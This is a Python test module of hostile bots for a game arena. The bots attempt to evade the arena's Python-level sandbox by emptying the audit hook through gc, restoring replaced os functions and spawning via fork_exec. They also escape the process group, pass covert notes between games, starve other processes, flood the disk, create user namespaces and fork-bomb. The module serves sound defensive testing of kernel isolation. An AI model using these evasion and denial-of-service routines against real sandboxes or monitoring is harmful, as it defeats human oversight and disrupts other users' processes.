"""Hostile bots against the kernel's promises (issue 23): each plays Concentration legally and,
written to get past the Python-level defences of a game process (the audit hook, whose watch list
it empties through `gc`; the `os` functions the sandbox replaces, rebuilt from a fresh `posix`;
`_posixsubprocess.fork_exec`, which raises no audit event; fresh interpreters, which have no hook
at all), tries to break one promise that only the kernel can keep. Each says what it did and what
it found in lines of its own (`<bot> ...`), which go to its log when it plays sandboxed."""

from __future__ import annotations

import contextlib
import gc
import os
import signal
import socket
import sys
import threading
import time
import types
from typing import Any

from arena.api import Bot, GameInfo, Observation, Result
from bots.concentration.greedy import GreedyBot

NOTE_ATTRIBUTE = b"user.arena-kernel-note"
"""The extended attribute `XattrNote` and `Toucher` leave."""

SLOTS = 4
"""How many ports (or abstract socket names) `UdpNote` tries, one per game process alive."""


def say(text: str) -> None:
    """Print a line at once (to the bot's log, when sandboxed)."""
    print(text, flush=True)


def disarm() -> int:
    """Empty the audit hook's watch list (a closure cell, in reach of `gc`: with it empty the hook
    lets every event through) and put back the `os` functions the sandbox replaced; how many
    watch lists were emptied (0 where there is no hook, as in the arena's own process)."""
    emptied = 0
    for function in gc.get_objects():
        if type(function) is not types.FunctionType or not function.__closure__:
            continue
        for cell in function.__closure__:
            try:
                value = cell.cell_contents
            except ValueError:  # an empty cell
                continue
            if isinstance(value, set | frozenset) and {"open", "os.fork", "socket.bind"} <= value:
                cell.cell_contents = frozenset()
                emptied += 1
    restore_os()
    return emptied


def fresh_posix() -> Any:
    """A new `posix` module, its functions the C ones (not whatever replaced the old module's)."""
    import _imp
    import importlib.machinery

    spec = importlib.machinery.ModuleSpec("posix", importlib.machinery.BuiltinImporter,
                                          origin="built-in")
    module = _imp.create_builtin(spec)
    _imp.exec_builtin(module)
    return module


def restore_os() -> list[str]:
    """Put the C functions back wherever the sandbox replaced one of `posix` (and so `os`) with
    Python code (setsid, setpriority, sched_setscheduler, ...); their names."""
    import posix

    replaced = [name for name, value in vars(posix).items()
                if type(value) is types.FunctionType]
    if not replaced:
        return []
    fresh = fresh_posix()
    for name in replaced:
        original = getattr(fresh, name)
        setattr(posix, name, original)
        setattr(os, name, original)
    if hasattr(fresh, "sched_param"):  # the type the new module's functions take
        posix.sched_param = os.sched_param = fresh.sched_param
    return replaced


def new_session() -> None:
    """Leave the process group (and session) the arena kills: the C `setsid`, or the C library's
    through ctypes."""
    try:
        fresh_posix().setsid()
    except Exception:
        import ctypes

        if ctypes.CDLL(None, use_errno=True).setsid() < 0:
            raise OSError(ctypes.get_errno(), "setsid") from None


_ERRORS = -1  # the file `launch` reads a start's errors from where pipes are refused


def launch(argv: list[str], session: bool = True, quiet: bool = True, cwd: str | None = None,
           group: bool = False) -> int:
    """Start `argv` with `_posixsubprocess.fork_exec` (no audit event), out of the game's
    process group (which the arena stops between turns and kills at the end): in a new session
    if `session`, or only a new process group if `group` (in the same session, so in the same
    scheduling autogroup as the games); its output to /dev/null if `quiet` (else to the game's);
    its process id."""
    import _posixsubprocess

    args = [os.fsencode(arg) for arg in argv]
    try:
        ready, failed = os.pipe()
    except PermissionError:  # a Python bot's game makes no pipe (the seccomp filter): an
        # unnamed file in its directory instead (read at once: empty, taken as started)
        global _ERRORS
        if _ERRORS < 0:  # one for all (the game's files are counted)
            errors = os.path.join(os.getcwd(), f"launch-{os.getpid()}")
            _ERRORS = os.open(errors, os.O_CREAT | os.O_TRUNC | os.O_RDWR, 0o600)
        os.ftruncate(_ERRORS, 0)
        os.lseek(_ERRORS, 0, os.SEEK_SET)
        failed, ready = os.dup(_ERRORS), os.dup(_ERRORS)
    null = os.open(os.devnull, os.O_WRONLY) if quiet else -1
    try:
        try:
            pid = _posixsubprocess.fork_exec(
                args, [args[0]], True, (), cwd, None, -1, -1, -1, null, -1, null,
                ready, failed, True, session, 0 if group else -1, None, None, None, -1, None, False)
        except TypeError:  # another Python's signature: what subprocess does, then
            import subprocess

            return subprocess.Popen(argv, start_new_session=session, cwd=cwd,
                                    process_group=0 if group else None,
                                    stdout=subprocess.DEVNULL if quiet else None,
                                    stderr=subprocess.DEVNULL if quiet else None).pid
        os.close(failed)
        failed = -1
        problem = os.read(ready, 4096)  # empty once the child has started the program
        if problem:
            os.waitpid(pid, 0)
            raise OSError(f"could not start {argv[0]}: {problem.decode(errors='replace')}")
        return pid
    finally:
        for fd in (ready, failed, null):
            if fd >= 0:
                os.close(fd)


def python(code: str, *args: object) -> list[str]:
    """The command line of a fresh interpreter (no audit hook) running `code` with `args`."""
    return [sys.executable, "-c", code, *map(str, args)]


def wait_for(pid: int, seconds: float) -> str:
    """Wait up to `seconds` for a child to end: how it ended."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return f"exit {os.waitstatus_to_exitcode(status)}"
        time.sleep(0.01)
    return "still running"


def failure(exc: BaseException) -> str:
    """An exception in a few words."""
    return f"{type(exc).__name__}: {exc}"[:200]


SLEEPER = "import time, sys\ntime.sleep(float(sys.argv[1]))"
"""A helper that does nothing but stay (argv: seconds, then a marker to be found by)."""

SPINNER = """
import os, sys, time
try:  # on a CPU of its own choosing, not only those its game was given
    os.sched_setaffinity(0, {int(sys.argv[2])})
except (OSError, ValueError):
    pass
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    pass
"""
"""A helper that keeps a CPU busy (argv: seconds, CPU, marker)."""

LISTENER = """
import socket, sys, time
port, note, seconds = int(sys.argv[1]), sys.argv[2].encode(), float(sys.argv[3])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.bind(("127.0.0.1", port))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        s.settimeout(max(end - time.monotonic(), 0.01))
        try:
            _, sender = s.recvfrom(64)
        except OSError:
            continue
        s.sendto(note, sender)
"""
"""A helper that answers every datagram on a port with a note (argv: port, note, seconds,
marker)."""

SENDER = """
import socket, sys
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(sys.argv[2].encode(), ("127.0.0.1", int(sys.argv[1])))
print("sender: the child sent", flush=True)
"""
"""A child that sends one datagram (argv: port, message)."""

FLOOD = """
import os, resource, sys
way, limit = sys.argv[1], int(sys.argv[2]) << 20
block = memoryview(bytes(16 << 20))
written = files = 0

def fill(name, most):
    global written
    fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    done = 0
    try:
        while done < most:
            done += os.write(fd, block[:most - done])
    finally:
        os.close(fd)
        written += done
    return done

if way == "one":
    try:  # the file size limit a game process has: raised, where it may be (root may)
        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2)
        print("flood raised its file size limit", flush=True)
    except (OSError, ValueError) as exc:
        print(f"flood kept its file size limit: {exc}", flush=True)
    try:
        fill("flood-one", limit)
    except OSError as exc:
        print(f"flood stopped in one file: {exc}", flush=True)
    files = 1
else:
    try:
        while written < limit:
            fill(f"flood-{files}", min(16 << 20, limit - written))
            files += 1
            if files % 8 == 0:
                print(f"flood at {written >> 20} MB", flush=True)
    except OSError as exc:
        print(f"flood stopped at file {files}: {exc}", flush=True)
print(f"flood wrote {written >> 20} MB in {files} files", flush=True)
"""
"""A child that writes `limit` MB in its working directory, in one file or in 16 MB files (argv:
way, megabytes)."""


class Attacker(Bot):
    """Plays the first legal card; disarms the Python-level defences when its game starts (or
    when it is made, if `early`) and attacks (`attack`, at the start)."""

    games = ("concentration",)
    early = False

    def __init__(self) -> None:
        if self.early:
            self.disarmed = disarm()

    def start(self, info: GameInfo) -> None:
        super().start(info)
        if not self.early:
            self.disarmed = disarm()
        try:
            self.attack()
        except Exception as exc:  # an attack that fails is no fault of the game
            say(f"{self.tag()} failed: {failure(exc)}")

    def tag(self) -> str:
        """How the bot's lines begin."""
        return type(self).__name__.lower()

    def attack(self) -> None:
        """The attack, at the start of a game."""

    def act(self, obs: Observation[Any]) -> Any:
        """The first legal card."""
        return obs.legal[0]


class Outliver(Attacker):
    """Leaves a helper that outlives its game: a fresh interpreter started in a new session with
    `fork_exec` (`how="session"`), or a fork that leaves its process group with the C `setsid`
    before it becomes that interpreter (`how="setsid"`); `marker` in its command line."""

    def __init__(self, marker: str = "arena-kernel-outliver", how: str = "session",
                 seconds: float = 20.0) -> None:
        super().__init__()
        self.marker, self.how, self.seconds = marker, how, seconds

    def attack(self) -> None:
        argv = python(SLEEPER, self.seconds, self.marker)
        if self.how == "session":
            pid = launch(argv, session=True)
        else:
            started, starting = os.pipe()  # closed by the exec (close-on-exec)
            pid = os.fork()
            if pid == 0:
                try:
                    os.close(started)
                    new_session()
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                    os.execv(argv[0], argv)
                finally:
                    os._exit(1)
            os.close(starting)
            os.read(started, 1)  # until the helper runs (with its marker)
            os.close(started)
        say(f"outliver started {pid} by {self.how}")


class XattrNote(Attacker):
    """Leaves a note for its next game in an extended attribute of its own file, and looks for
    the note an earlier game left there."""

    def __init__(self, token: str = "note") -> None:
        super().__init__()
        self.token = token

    def attack(self) -> None:
        here = os.path.abspath(__file__)
        try:
            say(f"xattrnote found {os.getxattr(here, NOTE_ATTRIBUTE).decode()}")
        except OSError as exc:
            say(f"xattrnote found nothing ({failure(exc)})")
        try:
            os.setxattr(here, NOTE_ATTRIBUTE, self.token.encode())
            say(f"xattrnote left {self.token}")
        except OSError as exc:
            say(f"xattrnote could not leave a note: {failure(exc)}")


class UdpNote(Attacker):
    """Passes a note to the next game's process, which is made (and waits) while this game is
    played: each is made with a socket of its own, on the first free of `SLOTS` UDP ports from
    `port` on 127.0.0.1 (`way="udp"`) or abstract unix socket names (`way="unix"`); a game sends
    its note to every other slot, and at its start looks for one sent to its own."""

    early = True  # the socket is bound when the bot is made, before its game

    def __init__(self, port: int = 47000, token: str = "note", way: str = "udp") -> None:
        super().__init__()
        self.token, self.way = token, way
        family = socket.AF_INET if way == "udp" else socket.AF_UNIX
        self.addresses: list[Any] = [("127.0.0.1", port + i) if way == "udp"
                                     else f"\0arena-kernel-{token}-{i}" for i in range(SLOTS)]
        self.own: Any = None
        self.sock: socket.socket | None = None
        with contextlib.suppress(OSError):  # a sandbox may allow no such socket at all
            self.sock = socket.socket(family, socket.SOCK_DGRAM)
        for address in self.addresses if self.sock is not None else ():
            try:
                self.sock.bind(address)
                self.own = address
                break
            except OSError:
                continue
        if self.own is None and self.sock is not None:
            self.sock.close()
            self.sock = None
        self.problems: set[str] = set()  # why notes could not be sent

    def attack(self) -> None:
        if self.sock is None:
            say(f"udpnote {self.way} could not bind")
            return
        self.sock.settimeout(0.3)
        try:
            data = self.sock.recv(256)
            say(f"udpnote {self.way} received {data.decode()}")
        except OSError:
            say(f"udpnote {self.way} received nothing")
        self.sock.setblocking(False)

    def send(self) -> int:
        """Send the note to every other slot; to how many it went."""
        sent = 0
        if self.sock is None:
            return 0
        for address in self.addresses:
            if address != self.own:
                try:
                    self.sock.sendto(f"note {self.token}".encode(), address)
                    sent += 1
                except OSError as exc:
                    self.problems.add(failure(exc))
        return sent

    def act(self, obs: Observation[Any]) -> Any:
        """Send the note again (the next game's process may be made by now); the first card."""
        self.send()
        return obs.legal[0]

    def end(self, result: Result) -> None:
        """Keep sending the note a little while (the next game's process may be slow to bind)."""
        sent, deadline = 0, time.monotonic() + 0.3
        while time.monotonic() < deadline:
            sent += self.send()
            time.sleep(0.02)
        say(f"udpnote {self.way} sent {sent} notes" + (
            f" ({'; '.join(sorted(self.problems))})" if self.problems else ""))

    def close(self) -> None:
        """Let the socket go (in the arena's own process; a game process is killed)."""
        if self.sock is not None:
            self.sock.close()
            self.sock = None


class Lingerer(Attacker):
    """Leaves a helper (a fresh interpreter, in a new session) that answers on a UDP port with
    its note; at its start asks that port for a note an earlier game left so."""

    def __init__(self, port: int = 47100, token: str = "note",
                 marker: str = "arena-kernel-lingerer", seconds: float = 20.0) -> None:
        super().__init__()
        self.port, self.token, self.marker, self.seconds = port, token, marker, seconds

    def ask(self, seconds: float) -> str:
        """Ask the port for a note, again and again for up to `seconds`: the answer, or why
        there is none."""
        problem, deadline = "no answer", time.monotonic() + seconds
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ask:
            ask.settimeout(0.05)
            while time.monotonic() < deadline:
                try:
                    ask.sendto(b"note?", ("127.0.0.1", self.port))
                    return ask.recv(256).decode()
                except (TimeoutError, ConnectionRefusedError) as exc:  # not (yet) listening
                    problem = failure(exc)
                    time.sleep(0.01)
                except OSError as exc:  # no network at all: asking again will not help
                    raise OSError(failure(exc)) from None
        raise OSError(problem)

    def attack(self) -> None:
        try:
            say(f"lingerer asked and heard {self.ask(0.5)}")
            return
        except OSError as exc:
            say(f"lingerer asked and heard nothing ({exc})")
        pid = launch(python(LISTENER, self.port, self.token, self.seconds, self.marker))
        try:  # until it answers: its game may be short
            self.ask(1.5)
            say(f"lingerer left a helper {pid}, which answers")
        except OSError as exc:
            say(f"lingerer left a helper {pid}, which does not answer ({exc})")


class ForkerNote(Attacker):
    """Leaves a note in how its parent process (the forker, which outlives every game) is set up:
    its nice value, its core file size limit (a soft limit of `token` pages) and its CPUs; and
    reads what an earlier game left there. `parent`: the process to use instead of its own
    parent (for a game in the arena's own process)."""

    def __init__(self, token: int = 7, parent: int = 0) -> None:
        super().__init__()
        self.token, self.parent = token, parent

    def attack(self) -> None:
        import resource

        target = self.parent or os.getppid()
        if target <= 0:
            say("forkernote has no parent to use")
            return
        cpus = os.sched_getaffinity(target)
        say(f"forkernote read nice={os.getpriority(os.PRIO_PROCESS, target)} "
            f"core={resource.prlimit(target, resource.RLIMIT_CORE)[0]} cpus={sorted(cpus)}")
        _, hard = resource.prlimit(target, resource.RLIMIT_CORE)
        other = set(range(os.cpu_count() or 1)) - cpus
        leaves = [("nice", self.token,
                   lambda: os.setpriority(os.PRIO_PROCESS, target, self.token)),
                  ("core", self.token * 4096,
                   lambda: resource.prlimit(target, resource.RLIMIT_CORE, (self.token * 4096,
                                                                           hard)))]
        if other:
            leaves.append(("cpus", [min(other)],
                           lambda: os.sched_setaffinity(target, {min(other)})))
        for what, value, leave in leaves:
            try:
                leave()
                say(f"forkernote left {what}={value}")
            except Exception as exc:
                say(f"forkernote could not leave {what}: {failure(exc)}")


class Renicer(Attacker):
    """Starves the other bots' game processes: finds them (`arena-game` in /proc/*/comm; only
    those whose command line holds `near`, if given, and that descend from process `within`, if
    given: a test's own, not those of the tests beside it), sets them to nice 19 and SCHED_IDLE at
    every decision of its own, and keeps every CPU busy with a helper of its own, in a process
    group of its own (out of reach of the pause between turns; in the games' session, so that
    an autogroup of its own does not shield them), for `seconds`."""

    def __init__(self, near: str = "", marker: str = "arena-kernel-renicer",
                 seconds: float = 10.0, within: int = 0) -> None:
        super().__init__()
        self.near, self.marker, self.seconds, self.within = near, marker, seconds, int(within)
        self.reniced: set[int] | None = None
        self.spinning: list[int] = []

    def attack(self) -> None:
        for cpu in range(os.cpu_count() or 1):
            try:
                self.spinning.append(launch(python(SPINNER, self.seconds, cpu, self.marker),
                                            session=False, group=True))
            except OSError as exc:
                say(f"renicer could not start a spinner: {failure(exc)}")
        say(f"renicer started {len(self.spinning)} spinners")

    def close(self) -> None:
        """End its spinners (called in the arena's own process only: a sandboxed game's stay)."""
        for pid in self.spinning:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass

    def others(self) -> list[int]:
        """The other game processes in sight."""
        found = []
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == os.getpid():
                continue
            try:
                with open(f"/proc/{entry}/comm") as comm:
                    if comm.read().strip() != "arena-game":
                        continue
                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                    if self.near.encode() not in cmdline.read():
                        continue
                if self.within and not self.descends(int(entry)):
                    continue
            except OSError:
                continue
            found.append(int(entry))
        return found

    def descends(self, pid: int) -> bool:
        """Whether process `pid` descends from process `within` (by its parents in /proc)."""
        while pid > 1:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            if pid == self.within:
                return True
        return False

    def act(self, obs: Observation[Any]) -> Any:
        """Renice every other game process not reniced yet; the first card."""
        try:
            others = set(self.others())
            if self.reniced is None:
                say(f"renicer sees {len(others)} other games")
                self.reniced = set()
            for pid in others - self.reniced:
                self.reniced.add(pid)
                try:
                    os.setpriority(os.PRIO_PROCESS, pid, 19)
                    os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
                    say(f"renicer reniced {pid}")
                except Exception as exc:
                    say(f"renicer could not renice {pid}: {failure(exc)}")
        except Exception as exc:
            say(f"renicer could not look for games: {failure(exc)}")
            self.reniced = set()
        return obs.legal[0]


class Thinker(GreedyBot):
    """A calm bot within the rules: plays as greedy after `cpu_ms` of computing per decision;
    with `report`, it says its nice value and scheduling policy at its first decision and at
    each that finds them changed."""

    def __init__(self, cpu_ms: float = 10.0, report: int = 0) -> None:
        self.cpu = cpu_ms / 1000
        self.report = bool(int(report))
        self.said = ""

    def act(self, obs: Observation[Any]) -> int:
        """Compute for `cpu_ms` of CPU time, then play as greedy."""
        if self.report:
            try:
                now = (f"thinker nice={os.getpriority(os.PRIO_PROCESS, 0)} "
                       f"policy={os.sched_getscheduler(0)}")
            except OSError as exc:
                now = f"thinker could not see its priority: {failure(exc)}"
            if now != self.said:
                say(now)
                self.said = now
        until = time.process_time() + self.cpu
        while time.process_time() < until:
            pass
        return super().act(obs)


class Toucher(Attacker):
    """Changes a file outside its directory without writing it: its mode (world-readable),
    owner (its own), times and an extended attribute."""

    def __init__(self, target: str = "") -> None:
        super().__init__()
        self.target = target

    def attack(self) -> None:
        path = self.target
        for what, change in [("chmod", lambda: os.chmod(path, 0o644)),
                             ("chown", lambda: os.chown(path, os.getuid(), os.getgid())),
                             ("utime", lambda: os.utime(path, (1_000_000_000,) * 2)),
                             ("setxattr", lambda: os.setxattr(path, NOTE_ATTRIBUTE, b"touched"))]:
            try:
                change()
                say(f"toucher could {what}")
            except OSError as exc:
                say(f"toucher could not {what}: {failure(exc)}")


class Sender(Attacker):
    """Sends datagrams out to 127.0.0.1:`port`: one itself, one from a fresh interpreter it
    starts (and waits for)."""

    def __init__(self, port: int = 9, token: str = "note") -> None:
        super().__init__()
        self.port, self.token = port, token

    def attack(self) -> None:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                out.sendto(f"bot {self.token}".encode(), ("127.0.0.1", self.port))
            say("sender: the bot sent")
        except OSError as exc:
            say(f"sender: the bot could not send: {failure(exc)}")
        pid = launch(python(SENDER, self.port, f"child {self.token}"), session=False,
                     quiet=False)
        say(f"sender: the child ended ({wait_for(pid, 10.0)})")


class Flooder(Attacker):
    """Fills the disk from a child (a fresh interpreter: no audit hook to count its files) with
    `megabytes` MB in its game's directory (or `folder`), in one file after raising its file
    size limit (`way="one"`) or in 16 MB files (`way="many"`); waits for it."""

    def __init__(self, megabytes: int = 1024, way: str = "many", folder: str = "") -> None:
        super().__init__()
        self.megabytes, self.way, self.folder = megabytes, way, folder

    def attack(self) -> None:
        pid = launch(python(FLOOD, self.way, self.megabytes), session=False, quiet=False,
                     cwd=self.folder or None)
        say(f"flooder: the child ended ({wait_for(pid, 25.0)})")


class NamespaceMaker(Attacker):
    """Makes a user namespace of its own (in a forked child: where it gets one, it has every
    capability over it, and the kernel's code for namespaces in reach), and says whether it
    could."""

    def attack(self) -> None:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        pid = os.fork()
        if pid == 0:
            code = 0 if libc.unshare(0x10000000) == 0 else 1  # CLONE_NEWUSER
            os._exit(code)
        made = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
        say(f"namespacemaker {'made' if made else 'could not make'} a user namespace")


class UnixSender(Attacker):
    """Sends a datagram to a unix socket outside its game, at `path` (a file on the machine: a
    network namespace does not hold those)."""

    def __init__(self, path: str = "/dev/log", token: str = "note") -> None:
        super().__init__()
        self.path, self.token = path, token

    def attack(self) -> None:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as out:
                out.sendto(f"unix {self.token}".encode(), self.path)
            say("unixsender sent")
        except OSError as exc:
            say(f"unixsender could not send: {failure(exc)}")


class ForkBomb(Bot):
    """Plays the first legal card; when its game starts, starts up to `count` processes (each
    `sleeper` sleeping `marker` seconds, a number to find them by: `fork_exec` raises no audit
    event) or threads (`way`), until the kernel refuses, and says how many it got and what
    stopped it."""

    games = ("concentration",)

    def __init__(self, count: int = 500, way: str = "processes", sleeper: str = "/bin/sleep",
                 marker: int = 3600) -> None:
        self.count, self.way, self.sleeper, self.marker = count, way, sleeper, marker

    def start(self, info: GameInfo) -> None:
        """Start as many as it can, then say how many."""
        super().start(info)
        started, stopped = 0, "nothing"
        threading.stack_size(256 << 10)  # threads that are cheap in address space
        try:
            for _ in range(self.count):
                if self.way == "threads":
                    threading.Thread(target=time.sleep, args=(self.marker,), daemon=True).start()
                else:
                    launch([self.sleeper, str(self.marker)], session=False)
                started += 1
        except Exception as exc:
            stopped = f"{type(exc).__name__}: {exc}"[:200]
        say(f"forkbomb {self.way} started {started}, stopped by {stopped}")

    def act(self, obs: Observation[Any]) -> Any:
        """The first legal card."""
        return obs.legal[0]
